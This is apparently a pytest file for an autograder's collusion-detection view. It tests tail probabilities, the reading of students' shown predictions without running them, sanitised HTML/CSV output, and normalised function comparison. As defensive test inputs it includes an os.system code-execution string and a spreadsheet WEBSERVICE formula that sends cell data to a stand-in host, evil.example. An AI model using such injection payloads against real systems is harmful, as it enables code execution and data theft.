"""The collusion view's parts, worked out by hand: the Poisson-binomial tail, a shown prediction read as a syntax tree
(never run), produce functions normalised (renamed, other literals, comments and formatting: one form) and the
released stub not evidence. (A whole notebook's produce functions: tests/test_collusion.py, which may import nbgrader's
checksum.)"""
from __future__ import annotations

import pytest

from autograder.authoring.collusion import collusion, normal_form, shown_text, shown_value, tail
from autograder.grading.plan import draw_point
from autograder.judging import judge, sources
from autograder.keyfile import load_key
from autograder.render.collusion import to_csv, to_html
from autograder.report import Outcome, Report
from conftest import ASSIGNMENT, ROOT


def test_the_tail_is_the_chance_of_at_least_k_of_independent_events():
    assert tail([0.5, 0.5], 1) == pytest.approx(0.75)
    assert tail([0.1, 0.1, 0.1], 2) == pytest.approx(3 * 0.01 * 0.9 + 0.001)
    assert tail([0.2, 0.5], 2) == pytest.approx(0.1)
    assert tail([], 1) == 0.0 and tail([0.3], 0) == 1.0


@pytest.mark.parametrize("text, value", [
    ("-2.36", {"t": "float", "v": -2.36}),
    ("3", {"t": "int", "v": 3}),
    ("(2.712,)", {"t": "seq", "kind": "tuple", "items": [{"t": "float", "v": 2.712}], "truncated": False}),
    ("(4.177, None)", {"t": "seq", "kind": "tuple", "items": [{"t": "float", "v": 4.177}, {"t": "none"}],
                       "truncated": False}),
    ("tensor(6.)", {"t": "float", "v": 6.0}),
    ("(inf, -inf, nan)", {"t": "seq", "kind": "tuple", "truncated": False, "items": [
        {"t": "float", "v": "inf"}, {"t": "float", "v": "-inf"}, {"t": "float", "v": "nan"}]}),
    ("RuntimeError", {"t": "class", "name": "RuntimeError"}),
    ("__import__('os').system('touch /tmp/pwned')", None),   # a call is no value: read, never run
    ("tensor([1., 2.], dtype=float64)", {"t": "tensor", "dtype": "float64", "shape": [2], "data": [1.0, 2.0]}),
    # a prediction written as a float64 tensor or array (requires_grad, a graph): its numbers, keywords not read
    ("tensor(3.24, dtype=float64)", {"t": "float", "v": 3.24}),
    ("tensor([3.24], dtype=float64, requires_grad=True)",
     {"t": "tensor", "dtype": "float64", "shape": [1], "data": [3.24]}),
    ("tensor(3.24, dtype=float64, grad_fn=<MulBackward0>)", {"t": "float", "v": 3.24}),
    ("array(3.24)", {"t": "float", "v": 3.24}),
    ("array([[1., 2.], [3., 4.]])", {"t": "array", "dtype": "float64", "shape": [2, 2], "data": [1.0, 2.0, 3.0, 4.0]}),
    ("tensor([1., [2.]])", None),
    ("tensor(x)", None),
    ("1" + "0" * 400, None),   # float() of it overflows: not read, and nothing raised
    ("16.5 #;=WEBSERVICE(1)", {"t": "float", "v": 16.5}),   # the comment is no part of the value
    ("(" * 300 + "1" + ")" * 300, None),
])
def test_a_shown_prediction_is_read_as_a_syntax_tree_only(text, value):
    assert shown_value(text) == value


@pytest.mark.parametrize("text, shown", [
    ("16.5 #;=WEBSERVICE(1)", "16.5"), ("tensor([3.24], dtype=float64)", "tensor([3.24])"), ("(2.712, None)",
    "(2.712, None)"), ("-inf", "-inf"), ("RuntimeError", "RuntimeError"), ("'=1+1'", "'=1+1'")])
def test_a_shown_prediction_is_written_again_by_the_view_never_as_the_report_had_it(text, shown):
    assert shown_text(shown_value(text)) == shown


def _report(key, student: str, shown: dict[str, str]) -> Report:
    """A graded report of `student` whose failed predictions show `shown` (check id -> the text a report shows)."""
    outcomes = tuple(Outcome(c.id, c.exercise, c.title, "predict", "failed" if c.id in shown else "passed", 0.0, 1.0,
                             observed=shown.get(c.id)) for c in key.checks if c.kind == "predict")
    return Report(ASSIGNMENT, f"{student}.ipynb", student, "graded", 0.0, float(len(outcomes)), outcomes)


def _right(key, check_id: str, student: str) -> float:
    check = next(c for c in key.checks if c.id == check_id)
    values = key.exercise(check.exercise).values(draw_point(key.parameters, ASSIGNMENT, student, "own"))
    return float(judge.handler(check).expected(key, check, values)["v"])


def test_a_prediction_no_comparison_can_take_is_left_out_and_a_comment_after_a_number_never_shown():
    """mal's report shows a class name of 401 digits (what the service once took): the view is made all the same,
    and says one wrong prediction was not compared. zed's predictions are src's right values, each followed by a
    spreadsheet formula as a comment: the page and the CSV show the numbers only. ivan's report does not count: the
    note names him."""
    key = load_key(ROOT / "assignments" / ASSIGNMENT / "public_key.json")
    checks = ("1.predict.grad", "3.predict.grad", "4.predict.after_reset", "5.predict.x_grad")
    formula = ' #;=WEBSERVICE("http://evil.example/"&A1)'
    zed = {c: f"{_right(key, c, 'src')!r}{formula}" for c in checks}
    reports = [_report(key, "src", {}), _report(key, "zed", zed),
               _report(key, "mal", {"1.predict.grad": "1" + "0" * 400, "3.predict.grad": "1e400"}),
               Report(ASSIGNMENT, "ivan.ipynb", "ivan", "not_gradable", None, 9.0, reason="cut off")]
    view = collusion(reports, key)
    assert view.students == 3 and view.pairs_compared == 6
    pair = next(p for p in view.prediction_pairs if (p.student, p.source) == ("zed", "src"))
    assert [(m.check_id, m.value) for m in pair.matches] == [(c, repr(_right(key, c, "src"))) for c in checks]
    assert pair.evidence == "unlikely by chance"
    assert view.notes[0] == ("1 report(s) that do not count (not gradable, superseded, or waiting for staff to choose "
                             "among a student's submissions) were not compared: ivan.")
    assert view.notes[1] == ("1 wrong prediction(s) were shown in a form this view does not read (or cannot compare), "
                             "and were not compared.")
    assert not any(p.student == "mal" and p.matches[0].check_id == "1.predict.grad" for p in view.prediction_pairs)
    page, sheet = to_html(view), to_csv(view)
    assert "WEBSERVICE" not in page and "WEBSERVICE" not in sheet and "evil.example" not in page + sheet
    grad = repr(_right(key, "1.predict.grad", "src"))
    assert f"<code>1.predict.grad</code>: {grad} (right there:" in page
    row = next(r for r in sheet.splitlines()[1:] if r.startswith('"predictions","zed","src"'))
    assert f'1.predict.grad: {grad} = ' in row and row.endswith('"none: evidence only"')   # every cell quoted


def _fn(source: str):
    return sources.parse(source).body[0]


def test_a_function_copied_with_renamed_variables_other_numbers_comments_and_spacing_has_one_form():
    mine_src = "def ex3(x):\n    y = x ** 2 * torch.sin(x)\n    d, = torch.autograd.grad(y, x)\n    return d * 1.0\n"
    mine = _fn(mine_src)
    theirs = _fn("def ex3(inp):\n    '''my docstring'''\n    # the derivative\n    out=inp**3*torch.sin( inp )\n"
                 "    g,  = torch.autograd.grad(out, inp)   # a tuple\n    return g*2.5\n")
    other = _fn("def ex3(x):\n    y = x ** 2 * torch.cos(x)\n    d, = torch.autograd.grad(y, x)\n    return d * 1.0\n")
    assert normal_form(mine) == normal_form(theirs) and normal_form(mine)[1] >= 20
    assert normal_form(other) != normal_form(mine)   # torch.cos is not torch.sin: globals and attributes are kept
    assert normal_form(_fn(mine_src.replace("1.0", "2"))) == normal_form(mine)   # an int for a float: one form
    assert normal_form(_fn('def ex5(x, y):\n    """Doc."""\n    raise NotImplementedError\n')) is None   # the stub
